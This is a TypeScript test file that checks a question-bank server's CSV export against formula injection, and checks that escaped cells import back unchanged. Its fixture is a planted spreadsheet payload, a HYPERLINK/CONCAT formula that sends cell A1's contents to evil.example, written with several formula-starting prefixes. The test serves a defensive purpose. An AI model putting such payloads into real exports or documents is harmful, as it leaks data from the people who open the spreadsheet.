import { eq, inArray } from 'drizzle-orm';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { question } from '../../server/src/db/schema';
import { first } from '../../server/src/db/transaction';
import { plainToHtml } from '../../server/src/modules/questions/import/rows';
import { type Harness, startHarness } from '../../server/src/test/harness';

/**
 * docs/security.md "Files in and out", CSV export: a cell starting with = + - @, a tab or a CR
 * that also held a line break was exported bare (Papa's escapeFormulae tests the whole cell with
 * a pattern a line break defeats), so a planted =HYPERLINK(…) ran in the spreadsheet that opened
 * the export. Cells are now escaped by their first character alone (server/src/lib/csv-cells.ts),
 * and the import takes the escape off again: every such cell makes the round trip.
 */

let h: Harness;
let editor: string;
beforeAll(async () => {
  h = await startHarness();
  editor = await h.tokenOf('editor');
});
afterAll(() => h.destroy());

const PAYLOAD = 'HYPERLINK(CONCAT("https://evil.example/?d=",A1),"Click for the answer")\nsecond line';
/** Texts a spreadsheet would run, each with a line break inside. */
const PLANTED = ['=', '+', '-', '@', '\t=', '\r=', '\uFF1D', "'="].map((start) => `${start}${PAYLOAD}`);
/** What a spreadsheet program would run: a cell starting (after nothing) with one of these. */
const RUNS = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;

type Stored = typeof question.$inferSelect;

describe('CSV export of planted formulas', () => {
  const ids: string[] = [];
  let file = '';

  beforeAll(async () => {
    for (const text of PLANTED) {
      const essay = await h.request('POST', '/question', {
        token: editor,
        body: { q: text, ops: {}, ca: [text], qt: 's', d: '3', trans: { hi: { q: text, ops: {}, ca: [text] } } },
      });
      expect(essay.status, JSON.stringify(essay.body)).toBe(201);
      const choice = await h.request('POST', '/question', { token: editor, body: { q: 'Pick one', ops: { a: text, b: 'other' }, ca: ['a'], qt: 'mcq1', d: '3' } });
      expect(choice.status, JSON.stringify(choice.body)).toBe(201);
      ids.push(essay.body.id, choice.body.id);
    }
    const r = await h.app.request(`/api/question/export?format=csv&qids=${ids.join(',')}`, { headers: { authorization: `Bearer ${editor}` } });
    expect(r.status).toBe(200);
    file = await r.text();
  });

  const storedQuestions = async (list: string[]) => {
    const rows = await h.deps.db.select().from(question).where(inArray(question.id, list));
    return list.map((id) => rows.find((q) => q.id === id)!);
  };

  test('the texts were stored as planted: each starts like a formula and holds a line break', async () => {
    for (const q of await storedQuestions(ids)) {
      const text = q.qt === 's' ? q.ca[0]! : q.ops.a!;
      expect(PLANTED).toContain(text);
    }
  });

  test('no cell of the file starts like a formula; each planted one is written with one more leading apostrophe', () => {
    const cells = Papa.parse<string[]>(file.replace(/^\uFEFF/, ''), { skipEmptyLines: 'greedy' }).data.flat();
    for (const cell of cells) expect(RUNS.test(cell), JSON.stringify(cell)).toBe(false);
    for (const text of PLANTED) {
      const written = cells.filter((c) => c === `'${text}`);
      // The essay's question, answer, Hindi question and Hindi answer; the choice's option a.
      expect(written.length, JSON.stringify(text)).toBe(5);
    }
  });

  test('the file imports back to the same texts', async () => {
    const r = await h.request('POST', '/question/import', { token: editor, body: { fileName: 'export.csv', format: 'csv', content: file, mode: 'all', skipDuplicates: false } });
    expect(r.status, JSON.stringify(r.body)).toBe(201);
    const imported = await storedQuestions(r.body.ids as string[]);
    const originals = await storedQuestions(ids);
    expect(imported).toHaveLength(originals.length);
    imported.forEach((copy: Stored, i) => {
      const original = originals[i]!;
      if (original.qt === 's') {
        // A model answer is plain text, read as written; a question's plain text becomes a paragraph.
        expect(copy.ca).toEqual(original.ca);
        expect(copy.trans.hi!.ca).toEqual(original.trans.hi!.ca);
        expect(copy.q).toBe(plainToHtml(original.q));
        expect(copy.trans.hi!.q).toBe(plainToHtml(original.trans.hi!.q));
      } else {
        expect(copy.ops).toEqual({ a: plainToHtml(original.ops.a!), b: plainToHtml(original.ops.b!) });
      }
    });
    const one = await first(h.deps.db.select().from(question).where(eq(question.id, imported[0]!.id)));
    expect(one?.ca[0]).toBe(PLANTED[0]);
  });
});
